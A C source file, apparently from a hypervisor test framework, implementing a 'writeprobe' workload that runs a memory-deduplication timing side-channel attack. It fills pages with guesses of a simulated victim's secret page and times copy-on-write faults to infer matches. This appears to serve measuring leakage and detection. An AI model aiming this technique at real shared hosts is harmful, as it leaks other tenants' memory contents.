/* The "writeprobe" workload: a dedup write-probe attacker. Each round fills
 * N probe pages (the slice minus a control page, at most 1024) with candidate
 * contents, half of them equal to the victim's secret page (the "secret"
 * workload with the same seed; which half, from the seed and the round), the
 * rest unique; waits MV_ATTACK_WAIT_NS for the fusion scanner; then writes
 * one byte of each page and times it: a write that takes the copy-on-write
 * fault of a fused page is slow, so "slow" guesses "equal to the secret".
 * The slow/fast threshold is calibrated each round on the control page (a
 * private, resident page). One op is one phase step (fill, a 10 ms wait
 * slice, probe), so a pause never waits long.
 * Results: aux[0] rounds, aux[1] guesses, aux[2] correct guesses, aux[3] the
 * CLOCK_MONOTONIC ns of the latest round's first probe (detection latency). */
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include "memvisor/util.h"
#include "prng.h"
#include "vm_i.h"

#define WP_MAGIC 0x31424f5250545257ULL   /* "WRTPROB1" */
#define WP_MAX 1024
#define ORDER_STREAM 0x4f52444552535452ULL
#define DECOY_STREAM 0x4445434f59535452ULL
#define CALIB 64

enum { PH_FILL = 0, PH_WAIT, PH_PROBE };

struct wp_ctl {
	uint64_t magic;
	uint64_t phase;
	uint64_t round;
	uint64_t deadline_ns;
	uint64_t n;
	uint64_t thr_ns;
	uint8_t equal[WP_MAX];
};
_Static_assert(sizeof(struct wp_ctl) <= MV_WL_PAGE, "control state fits its page");

static uint64_t npages(const struct mv_wl_state *st)
{
	uint64_t n = st->gpa_len / MV_WL_PAGE - 1;
	return n > WP_MAX ? WP_MAX : n;
}

static struct wp_ctl *ctl_of(uint8_t *hva, const struct mv_wl_state *st)
{
	return (struct wp_ctl *)(hva + st->gpa_len - MV_WL_PAGE);
}

static int wp_init(struct mv_wl_state *st, struct mv_guest_mem *m, struct mv_error **err)
{
	uint8_t *hva = mv_wl_slice(st, m);
	if (!hva || st->gpa_len < 3 * MV_WL_PAGE)
		return mv_err(err, -EINVAL, "vcpu %u: writeprobe needs 3 pages of working set", st->vcpu);
	mv_wl_zero(hva, st->gpa_len);
	struct wp_ctl *c = ctl_of(hva, st);
	c->magic = WP_MAGIC;
	c->n = npages(st);
	st->ops_done = 0;
	memset(st->aux, 0, sizeof(st->aux));
	return 0;
}

static int cmp_u64(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
	return x < y ? -1 : x > y;
}

/* Exactly half the pages equal: page i is equal when its draw is among the
 * n/2 smallest of the round's draws. */
static void choose(struct wp_ctl *c, uint64_t seed)
{
	uint64_t draw[WP_MAX], sorted[WP_MAX];
	for (uint64_t i = 0; i < c->n; i++)
		draw[i] = sorted[i] = mv_mix3(seed ^ ORDER_STREAM, c->round, i);
	qsort(sorted, c->n, sizeof(sorted[0]), cmp_u64);
	uint64_t cut = sorted[c->n / 2];
	for (uint64_t i = 0; i < c->n; i++)
		c->equal[i] = draw[i] < cut;
}

static void fill(uint8_t *hva, struct wp_ctl *c, uint64_t seed)
{
	choose(c, seed);
	for (uint64_t i = 0; i < c->n; i++) {
		uint64_t *w = (uint64_t *)(hva + i * MV_WL_PAGE);
		if (c->equal[i]) {
			mv_secret_page_fill(w, seed);
			continue;
		}
		uint64_t b = mv_mix3(seed ^ DECOY_STREAM, c->round, i);
		for (uint64_t j = 0; j < MV_WL_PAGE / 8; j++)
			w[j] = b + j * MV_GOLDEN;
	}
}

static uint64_t timed_write(volatile uint8_t *p, uint8_t v)
{
	uint64_t t0 = mv_now_ns();
	*p = v;
	return mv_now_ns() - t0;
}

/* A fast write's cost here and now, from writes to the private control page:
 * a copy-on-write fault costs tens of microseconds, a plain store well under
 * one; the threshold sits far above the fast median. */
static uint64_t calibrate(struct wp_ctl *c)
{
	uint64_t t[CALIB];
	volatile uint8_t *p = (volatile uint8_t *)&c->equal[WP_MAX - 1];
	for (unsigned i = 0; i < CALIB; i++)
		t[i] = timed_write(p, (uint8_t)i);
	qsort(t, CALIB, sizeof(t[0]), cmp_u64);
	return t[CALIB / 2] * 8 + 2000;
}

static void probe(struct mv_wl_state *st, uint8_t *hva, struct wp_ctl *c)
{
	c->thr_ns = calibrate(c);
	uint64_t correct = 0;
	st->aux[3] = mv_now_ns();
	for (uint64_t i = 0; i < c->n; i++) {
		uint64_t dt = timed_write(hva + i * MV_WL_PAGE + 8, 0xA5);
		correct += (dt > c->thr_ns) == (c->equal[i] != 0);
	}
	st->aux[0]++;
	st->aux[1] += c->n;
	st->aux[2] += correct;
}

static int64_t wp_step(struct mv_wl_state *st, struct mv_guest_mem *m, uint64_t max_ops)
{
	uint8_t *hva = mv_wl_slice(st, m);
	if (!hva)
		return -EINVAL;
	struct wp_ctl *c = ctl_of(hva, st);
	for (uint64_t op = 0; op < max_ops; op++, st->ops_done++) {
		switch (c->phase) {
		case PH_FILL:
			fill(hva, c, st->p.seed);
			c->deadline_ns = mv_now_ns() + MV_ATTACK_WAIT_NS;
			c->phase = PH_WAIT;
			break;
		case PH_WAIT: {
			uint64_t now = mv_now_ns();
			if (now < c->deadline_ns) {
				uint64_t d = c->deadline_ns - now;
				d = d > 10000000 ? 10000000 : d;
				struct timespec ts = {0, (long)d};
				nanosleep(&ts, NULL);
				return (int64_t)op + 1;   /* let a pause in between */
			}
			c->phase = PH_PROBE;
			break;
		}
		default:
			probe(st, hva, c);
			c->round++;
			c->phase = PH_FILL;
			return (int64_t)op + 1;
		}
	}
	return (int64_t)max_ops;
}

static int wp_verify(const struct mv_wl_state *st, struct mv_guest_mem *m, struct mv_error **err)
{
	uint8_t *hva = mv_wl_slice(st, m);
	if (st->kind != MV_WL_WRITEPROBE || !hva || st->gpa_len < 3 * MV_WL_PAGE)
		return mv_err(err, -EIO, "vcpu %u: writeprobe state is corrupt", st->vcpu);
	const struct wp_ctl *c = ctl_of(hva, st);
	if (c->magic != WP_MAGIC || c->n != npages(st) || c->phase > PH_PROBE ||
	    st->aux[2] > st->aux[1] || st->aux[1] != st->aux[0] * c->n)
		return mv_err(err, -EIO, "vcpu %u: writeprobe control page or results corrupt",
			      st->vcpu);
	return 0;
}

const struct mv_wl_ops mv_wl_writeprobe_ops = {
	.name = "writeprobe",
	.init = wp_init,
	.step = wp_step,
	.verify = wp_verify,
};
